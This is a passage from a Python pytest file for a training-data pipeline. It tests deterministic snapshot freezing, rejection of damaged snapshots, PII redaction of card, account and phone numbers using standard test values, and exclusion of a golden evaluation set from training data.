    second = freeze(documents(120)[::-1], older[::-1], uri=f"file://{tmp_path}/out/2.parquet", spec=model, names=NAMES)
    assert first.sha256 == second.sha256
    assert first.counts["replay"] > 0
    assert freeze([], [], uri=first.uri, spec=model, names=NAMES).sha256 == first.sha256


def test_an_interrupted_freeze_leaves_no_snapshot(tmp_path: Path, monkeypatch: pytest.MonkeyPatch):
    """What dies before the end leaves no snapshot behind, and the next freeze gives the one it would have given."""
    uri = f"file://{tmp_path}/s.parquet"

    def die(*_: object) -> int:
        raise KeyboardInterrupt

    with monkeypatch.context() as broken:
        broken.setattr("training.data.freeze._overlaps", die)
        with pytest.raises(KeyboardInterrupt):
            freeze(documents(120), [], uri=uri, spec=spec(), names=NAMES)
    assert stored(uri) is None
    again = freeze(documents(120), [], uri=uri, spec=spec(), names=NAMES)
    other = freeze(documents(120), [], uri=f"file://{tmp_path}/t.parquet", spec=spec(), names=NAMES)
    assert again.sha256 == other.sha256
    assert Path(report_uri(uri).removeprefix("file://")).is_file()


def test_a_snapshot_is_what_was_written(tmp_path: Path):
    """Parts are read on their own and in order; a file that is not the one that was written is refused."""
    uri = f"file://{tmp_path}/s.parquet"
    snapshot = freeze(documents(120), [], uri=uri, spec=spec(validation_share=0.1), names=NAMES)
    assert Snapshot.of(uri, snapshot.sha256) == snapshot == stored(uri)
    every = list(snapshot.rows())
    for part, count in snapshot.counts.items():
        assert list(snapshot.rows(part)) == [row for row in every if row["part"] == part]
        assert len(list(snapshot.rows(part))) == count
    assert [text_of(row) for row in snapshot.rows("validation")] == snapshot.validation
    with pytest.raises(ContractError, match=r"s\.parquet is damaged"):
        Snapshot.of(uri, "0" * 64)


@pytest.mark.skipif(find_spec("presidio_analyzer") is not None, reason="Presidio is installed")
def test_pii_without_presidio_is_refused():
    """What is asked for and not installed is an error that says how to install it."""
    with pytest.raises(ContractError, match=r"driftloop\[pii\]"):
        rehearse(documents(120), [], spec=spec(redact=("pii",)), names=NAMES)


@pytest.mark.skipif(find_spec("presidio_analyzer") is None, reason="Presidio is not installed")
def test_personal_data_is_cut_out():
    """With Presidio, numbers of cards, accounts and telephones are replaced where they stand."""
    said = "pay 4111 1111 1111 1111 or DE89 3704 0044 0532 0130 00, call +49 30 901820, from 192.168.7.13 on"
    texts, log, _ = of_log([*documents(120), *documents(1, 500, reference=said)], spec(redact=("pii",)))
    assert any(text.endswith("pay <personal> or <personal>, call <personal>, from <personal> on") for text in texts)
    assert log["redacted"]["personal data"] >= 1


@pytest.mark.skipif(find_spec("presidio_analyzer") is None, reason="Presidio is not installed")
@pytest.mark.parametrize(
    ("said", "clean"),
    [
        ("visa 4012888888881881, amex 378282246310005", "visa <personal>, amex <personal>"),
        ("card 4111-1111-1111-1112 fails its checksum", "card 4111-1111-1111-1112 fails its checksum"),
        ("GB29 NWBK 6016 1331 9268 19", "<personal>"),
        ("call (212) 555-0134 or +1 212 555 0134", "call <personal> or <personal>"),
        ("ssn 536-90-4399, host 2001:db8::ff00:42:8329", "ssn <personal>, host <personal>"),
        ("in 2024 there were 1234567 rows at 12:30:45", "in 2024 there were 1234567 rows at 12:30:45"),
    ],
)
def test_personal_data_by_its_checksums(said: str, clean: str):
    """Cards, accounts and people's numbers with a right checksum are replaced; other numbers stay."""
    found = redact([("", said)], finders(("pii",)))
    assert found.get(0, (("", said), []))[0] == ("", clean)


def test_golden_set_is_kept_out(tmp_path: Path):
    """The golden set's texts are read for keeping them out; a row of it that cannot be read stops the training."""
    file = tmp_path / "golden.jsonl"
    file.write_text(json.dumps({"prompt": "a ", "reference": "b"}))
    model = spec().model_copy(update={"evaluation": spec().evaluation.model_copy(update={"golden": str(file)})})
    assert {text_of(row) for row in golden_rows(model)} == {"a b"}
    assert golden_rows(spec()) == []
    file.write_text("no json")
    with pytest.raises(ContractError, match=r"row 1: not JSON \(Expecting value\); mend the file"):
        golden_rows(model)
